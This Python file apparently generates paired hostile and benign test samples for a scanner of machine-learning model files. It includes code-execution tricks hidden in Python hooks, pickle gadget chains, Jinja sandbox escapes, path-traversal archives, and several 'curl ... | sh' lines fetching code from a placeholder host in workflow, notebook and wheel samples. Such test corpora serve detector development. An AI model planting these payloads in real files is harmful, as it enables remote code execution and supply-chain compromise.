"""Programs by other parts of the language and its library, and other samples of the other families."""
import base64
import gzip
import json
import lzma

from assembly import call, dot, glob, model, pickle, seq
from first.arrays import npy
from first.containers import EVIL, FLOATS, GOOD, state, tarred, torch_zip, zipped
from first.graphs import X, const, graph, keras_zip, layer, node, saved_model
from first.others import R
from first.programs import notebook
from first.stdlib_calls import EXEC, PLAIN, SYSTEM
from first.weights import ARCH, T32, W32, F, gguf, gs, st
from pair import CODE, SHELL, Set

M = "modeling_fern.py"
# (name, hostile, what stands in the twin for each part of it)
PROGRAMS = [
    ("property-setter", "import os\nclass A:\n    @property\n    def cmd(self):\n        return 1\n    @cmd.setter\n    def cmd(self, v):\n        os.system(v)\nA().cmd = 'touch marker'\n", [("os.system", "print")]),
    ("setattr-hook", "import os\nclass A:\n    def __setattr__(self, k, v):\n        os.popen(v).read()\nA().x = 'touch marker'\n", [("os.popen(v).read()", "print(v)")]),
    ("delattr-hook", "import os\nclass A:\n    def __delitem__(self, k):\n        os.system(k)\ndel A()['touch marker']\n", [("os.system", "print")]),
    ("contains-hook", "import os\nclass A:\n    def __contains__(self, k):\n        return os.system(k) == 0\n'touch marker' in A()\n", [("os.system(k)", "len(k)")]),
    ("reversed-hook", "import os\nclass A:\n    def __reversed__(self):\n        os.system('touch marker')\n        return iter(())\nreversed(A())\n", [("os.system", "print")]),
    ("index-hook", "import os\nclass A:\n    def __index__(self):\n        os.system('touch marker')\n        return 0\n[1, 2][A()]\n", [("os.system", "print")]),
    ("hash-hook", "import os\nclass A:\n    def __hash__(self):\n        os.system('touch marker')\n        return 1\n{A(): 1}\n", [("os.system", "print")]),
    ("fspath-hook", "import os\nclass A:\n    def __fspath__(self):\n        os.system('touch marker')\n        return '.'\nos.listdir(A())\n", [("os.system", "print")]),
    ("call-in-default-of-method", "import os\nclass A:\n    def f(self, x=os.system('touch marker')):\n        return x\n", [("os.system", "len")]),
    ("annotation", "import os\ndef f(x: os.system('touch marker')):\n    return x\n", [("os.system", "len")]),
    ("raise-from", "import os\ntry:\n    raise KeyError from OSError(os.system('touch marker'))\nexcept KeyError:\n    pass\n", [("os.system", "len")]),
    ("assert-message", "import os\ntry:\n    assert not [1], os.system('touch marker')\nexcept AssertionError:\n    pass\n", [("os.system", "len")]),
    ("finally-branch", "import os\ndef f():\n    try:\n        return 1\n    finally:\n        os.system('touch marker')\nf()\n", [("os.system", "print")]),
    ("dict-of-lambdas", "import os\nSTEPS = {'a': lambda c: None, 'b': lambda c: os.system(c)}\nfor k in sorted(STEPS):\n    STEPS[k]('touch marker')\n", [("os.system", "print")]),
    ("class-factory", "import subprocess\ndef build(base):\n    class C(base):\n        pass\n    return C\nbuild(subprocess.Popen)(['touch', 'marker']).wait()\n", [("subprocess", "collections"), ("Popen", "Counter"), (".wait()", "")]),
    ("two-level-partial", "import functools, subprocess\nrun = functools.partial(subprocess.run, check=True)\ntouch = functools.partial(run, ['touch', 'marker'])\ntouch()\n", [("subprocess.run, check=True", "sorted, reverse=True"), ("import functools, subprocess", "import functools")]),
    ("compose", "import os\ncompose = lambda *fs: lambda x: [x := f(x) for f in fs][-1]\ncompose(str.strip, os.system)('  touch marker ')\n", [("os.system", "len")]),
    ("recursion", "import os\ndef walk(t):\n    if isinstance(t, tuple):\n        return walk(t[0])(walk(t[1]))\n    return t\nwalk((os.system, 'touch marker'))\n", [("os.system", "len")]),
    ("string-builder", "import io, os\nb = io.StringIO()\nfor part in ('tou', 'ch ', 'marker'):\n    b.write(part)\nos.system(b.getvalue())\n", [("os.system", "print")]),
    ("namedtuple-field", "import collections, os\nJob = collections.namedtuple('Job', 'fn arg')\nj = Job(os.system, 'touch marker')\nj.fn(j.arg)\n", [("os.system", "len")]),
    ("dataclass-call", "import os\nfrom dataclasses import dataclass\nfrom typing import Callable\n@dataclass\nclass Job:\n    fn: Callable\n    arg: str\n    def go(self):\n        return self.fn(self.arg)\nJob(os.system, 'touch marker').go()\n", [("os.system", "len")]),
    ("enum-member", "import enum, os\nclass Op(enum.Enum):\n    RUN = 'system'\n    CWD = 'getcwd'\ngetattr(os, Op.RUN.value)('touch marker')\n", [("Op.RUN", "Op.CWD"), ("('touch marker')", "()")]),
    ("divmod-digits", "n = 0x746f756368206d61726b6572\ns = ''\nwhile n:\n    n, r = divmod(n, 256)\n    s = chr(r) + s\n__import__('os').system(s)\n", [("__import__('os').system", "print")]),
    ("async-task", "import asyncio, os\nasync def job():\n    await asyncio.sleep(0)\n    os.system('touch marker')\nasync def main():\n    await asyncio.gather(*[asyncio.create_task(job())])\nasyncio.run(main())\n", [("os.system", "print")]),
    ("queue-worker", "import os, queue\nq = queue.Queue()\nq.put((os.system, 'touch marker'))\nf, a = q.get()\nf(a)\n", [("os.system", "len")]),
    ("copy-of-globals", "from os import system as _s\nglobals()['activate'] = _s\nactivate('touch marker')\n", [("from os import system as _s", "_s = len")]),
]


def pickles():
    yield "max-of-map", call(glob("builtins", "max"), call(glob("builtins", "map"), SYSTEM, [SHELL]))
    yield "unpack-from-iter", call(glob("builtins", "next"), call(glob("builtins", "map"), EXEC, [CODE]))
    yield "pairwise", call(glob("builtins", "list"), call(glob("itertools", "pairwise"), call(glob("builtins", "map"), SYSTEM, [SHELL])))
    yield "islice", call(glob("builtins", "tuple"), call(glob("itertools", "islice"), call(glob("builtins", "map"), SYSTEM, [SHELL]), 1))
    yield "string-join", call(dot("builtins", "str", "join"), "", call(glob("builtins", "filter"), SYSTEM, [SHELL]))
    yield "timer-function", call(dot("threading", "Timer", "run"), call(glob("threading", "Timer"), 0, SYSTEM, [SHELL]))
    yield "code-object-exec", call(EXEC, call(glob("builtins", "compile"), CODE, "m", "exec"))
    yield "zipapp-main", call(glob("os", "mkdir"), "marker")
    yield "csv-open", call(dot("io", "TextIOWrapper"), call(glob("builtins", "open"), "marker", "wb"))
    yield "named-tuple-exec", seq(call(glob("builtins", "eval"), "open('marker','w')"), 1)
    yield "popen-by-new", call(dot("subprocess", "Popen", "wait"), call(glob("subprocess", "Popen"), ["touch", "marker"]))


def others(out: Set):
    j = json.dumps

    def a(family, name, file, hostile, twin):
        out.add(family, name, hostile, twin, file=file)

    a("torch", "state-with-methodcaller", "m.pt", torch_zip(state(call(call(glob("operator", "methodcaller"), "system", SHELL), glob("shutil", "os")))), torch_zip(state()))
    a("torch", "tar-of-torch", "m.tar.gz", tarred([("x/m.bin", torch_zip(state(call(SYSTEM, SHELL))))], "w:gz"), tarred([("x/m.bin", torch_zip(state()))], "w:gz"))
    a("arrays", "npz-of-objects", "x.npz", zipped([("a.npy", npy("'|O'", "(1,)", EVIL))]), zipped([("a.npy", npy("'<f4'", "(1,)", b"\0" * 4))]))
    a("arrays", "joblib-gzip", "m.joblib.gz", gzip.compress(EVIL, mtime=0), gzip.compress(GOOD, mtime=0))
    a("keras", "lambda-in-list", "m.keras", keras_zip([layer("Concatenate", {"inputs": [layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": "4wA="}}})]})]), keras_zip([layer("Concatenate", {"axis": -1})]))
    a("keras", "eval-metric", "m.keras", keras_zip([layer("Dense", {"units": 1})], {"metrics": [{"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"}]}), keras_zip([layer("Dense", {"units": 1})], {"metrics": ["mae"]}))
    a("tensorflow", "read-in-branch", "saved_model.pb", saved_model(graph([X, node("i", "StatelessIf", ("x",))], [("then_1", [const("p", b"/etc/passwd"), node("r", "ReadFile", ("p",))])])), saved_model(graph([X, node("i", "StatelessIf", ("x",))], [("then_1", [node("r", "Relu", ("x",))])])))
    a("tensorflow", "remote-device", "graph.pb", graph([X, const("t", b"/job:worker/replica:0/task:0"), node("d", "RemoteCall", ("t", "x"))]), graph([X, const("t", b"/job:localhost/replica:0/task:0"), node("d", "RemoteCall", ("t", "x"))]))
    a("gguf", "template-subscript-chain", "m.gguf", gguf([ARCH, ("tokenizer.chat_template", 8, gs("{{ joiner['__init__']['__globals__']['os']['popen']('id') }}"))], T32, W32), gguf([ARCH, ("tokenizer.chat_template", 8, gs("{{ messages[0]['content'] }}"))], T32, W32))
    a("gguf", "count-of-tensors", "m.gguf", gguf([ARCH], T32, W32, n_tensors=9), gguf([ARCH], T32, W32))
    a("safetensors", "gap-in-middle", "m.safetensors", st({"a": F(0, 32), "b": F(64, 96)}, FLOATS[:96]), st({"a": F(0, 32), "b": F(32, 64)}, FLOATS[:64]))
    a("safetensors", "index-to-web", "model.safetensors.index.json", j({"weight_map": {"a": "https://evil.example/a.safetensors"}}), j({"weight_map": {"a": "a.safetensors"}}))
    x = R()
    a("r", "compressed-promise", "m.rds", lzma.compress(x.head() + x.promise(x.lang("source", x.string("http://192.0.2.7/x.R")))), lzma.compress(x.head() + x.real(3.0)))
    a("template", "joined-attribute", "chat_template.jinja", "{{ messages|attr(['__class', '__']|join) }}", "{{ messages[0]|attr(['con', 'tent']|join) }}")
    a("config", "lightning-popen", "config.yaml", "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: id\n", "model:\n  class_path: torch.nn.Linear\n  init_args:\n    in_features: 1\n")
    a("config", "auto-map-tokenizer-list", "tokenizer_config.json", j({"auto_map": {"AutoTokenizer": ["a/b--t.S", "a/b--t.F"]}}), j({"tokenizer_class": "LlamaTokenizer"}))
    a("config", "requirements-address", "requirements.txt", "torch @ http://192.0.2.8/torch.whl\n", "torch==2.4.0\n")
    a("config", "steps-of-workflow", "job.yaml", "steps:\n- name: x\n  run: wget -qO- http://192.0.2.7/x | bash\n", "steps:\n- name: x\n  run: make\n")
    a("container", "bz2-in-zip", "m.zip", zipped([("m.pkl.bz2", __import__("bz2").compress(EVIL))]), zipped([("m.pkl.bz2", __import__("bz2").compress(GOOD))]))
    a("container", "link-out-of-tar", "m.tar", tarred([("m/link", (b"2", "../../etc/passwd"))]), tarred([("m/file", b"x")]))
    a("container", "pickle-in-yaml", "s.yaml", "state: " + base64.b64encode(EVIL).decode() + "\n", "state: " + base64.b64encode(GOOD).decode() + "\n")
    a("notebook", "bash-cell-with-variable", "n.ipynb", notebook("%%bash\nU=http://192.0.2.7/x\ncurl -s $U | sh\n"), notebook("%%bash\nU=data\nls $U\n"))
    a("notebook", "os-in-loop", "n.ipynb", notebook("import os\nfor c in ['curl -s http://192.0.2.7/x | sh']:\n    os.system(c)\n"), notebook("import os\nfor c in ['ls']:\n    print(c)\n"))
    a("package", "wheel-deep-module", "m-1-py3-none-any.whl", zipped([("m/__init__.py", b"from .a import go\ngo()\n"), ("m/a.py", b"import os\nclass G:\n    def __call__(self):\n        os.system('curl -s http://192.0.2.7/x | sh')\ngo = G()\n"), ("m-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1\n"), ("m-1.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.dist-info/RECORD", b"")]), zipped([("m/__init__.py", b"from .a import go\ngo()\n"), ("m/a.py", b"import os\nclass G:\n    def __call__(self):\n        os.getcwd()\ngo = G()\n"), ("m-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1\n"), ("m-1.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.dist-info/RECORD", b"")]))


def add(out: Set):
    for name, hostile, changes in PROGRAMS:
        twin = hostile
        for before, after in changes:
            twin = twin.replace(before, after)
        out.add("program", name, hostile, twin, "python", file=M)
    for n, (name, hostile) in enumerate(pickles()):
        out.add("pickle", name, pickle(model(hostile)), pickle(model(PLAIN[n])), "pickle", file="m.pkl")
    others(out)
